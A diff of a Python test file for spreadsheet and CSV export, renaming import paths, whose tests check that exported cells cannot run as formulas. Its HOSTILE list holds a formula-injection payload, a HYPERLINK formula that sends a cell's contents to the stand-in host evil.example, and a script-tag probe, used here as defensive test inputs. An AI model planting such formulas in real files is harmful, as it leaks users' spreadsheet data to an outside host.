@@ -9,11 +9,12 @@ import zipfile
 
 import openpyxl
 
-from data_access import export, store
-from data_access.db import write_transaction
+from data_access.domain.rules import parse_timescale
+from data_access.domain.tracker_rows import PlanInfo, ReviewSnapshot, TrackerRow
+from data_access.papers import excel_export
 from data_access.reads import review_figures
-from data_access.rules import parse_timescale
-from data_access.tracker_rows import PlanInfo, ReviewSnapshot, TrackerRow
+from data_access.storage import plan_writer
+from data_access.storage.database import write_transaction
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -44,14 +45,14 @@ def _actions(engine):
         )
     )
     with write_transaction(engine) as conn:
-        plan_id = store.ensure_plan(conn, PlanInfo("Export test"))
-        review_id = store.save_review(conn, plan_id, ReviewSnapshot(dt.date(2017, 6, 30), rows), source="t.xlsx")
+        plan_id = plan_writer.ensure_plan(conn, PlanInfo("Export test"))
+        review_id = plan_writer.save_review(conn, plan_id, ReviewSnapshot(dt.date(2017, 6, 30), rows), source="t.xlsx")
     return review_figures.review_actions(engine, review_id, dt.date(2017, 6, 30))
 
 
 def test_xlsx_has_no_formulas_and_keeps_the_text_exactly(engine):
     actions = _actions(engine)
-    data = export.actions_xlsx(actions, "=Export test, Q1 2017/18")
+    data = excel_export.actions_xlsx(actions, "=Export test, Q1 2017/18")
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
         sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet_xml and "<f " not in sheet_xml
@@ -68,23 +69,23 @@ def test_xlsx_has_no_formulas_and_keeps_the_text_exactly(engine):
 
 def test_csv_prefixes_formula_text_and_reads_back_in_excel_encoding(engine):
     actions = _actions(engine)
-    data = export.actions_csv(actions)
+    data = excel_export.actions_csv(actions)
     assert data.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert rows[0][0] == "Action ID" and len(rows) == len(actions) + 1
     progress = [r[rows[0].index("Progress update")] for r in rows[1:]]
     assert progress[:4] == ["'" + text for text in HOSTILE[:4]]  # inert: shown as text by Excel
     assert progress[4] == "<script>alert(1)</script>"  # not a formula trigger: exactly as written
-    assert all(not cell.startswith(export.FORMULA_TRIGGERS) for row in rows for cell in row)
+    assert all(not cell.startswith(excel_export.FORMULA_TRIGGERS) for row in rows for cell in row)
 
 
 def test_xlsx_is_formatted_for_a_board_paper(engine):
     """Widths (no '###' dates), typed cells, unique headers, a frozen filterable header row, and
     status cells filled with the status colour and carrying the word."""
     actions = _actions(engine)
-    sheet = openpyxl.load_workbook(io.BytesIO(export.actions_xlsx(actions, "Export test"))).active
+    sheet = openpyxl.load_workbook(io.BytesIO(excel_export.actions_xlsx(actions, "Export test"))).active
     headings = [c.value for c in sheet[3]]
-    assert len(headings) == len(set(headings)) == len(export.EXPORT_COLUMNS)
+    assert len(headings) == len(set(headings)) == len(excel_export.EXPORT_COLUMNS)
     assert headings[:4] == ["Action ID", "Recommendation", "Recommendation text", "Action"]
     column = {h: i + 1 for i, h in enumerate(headings)}
     letter = sheet.cell(row=3, column=column["Due date"]).column_letter
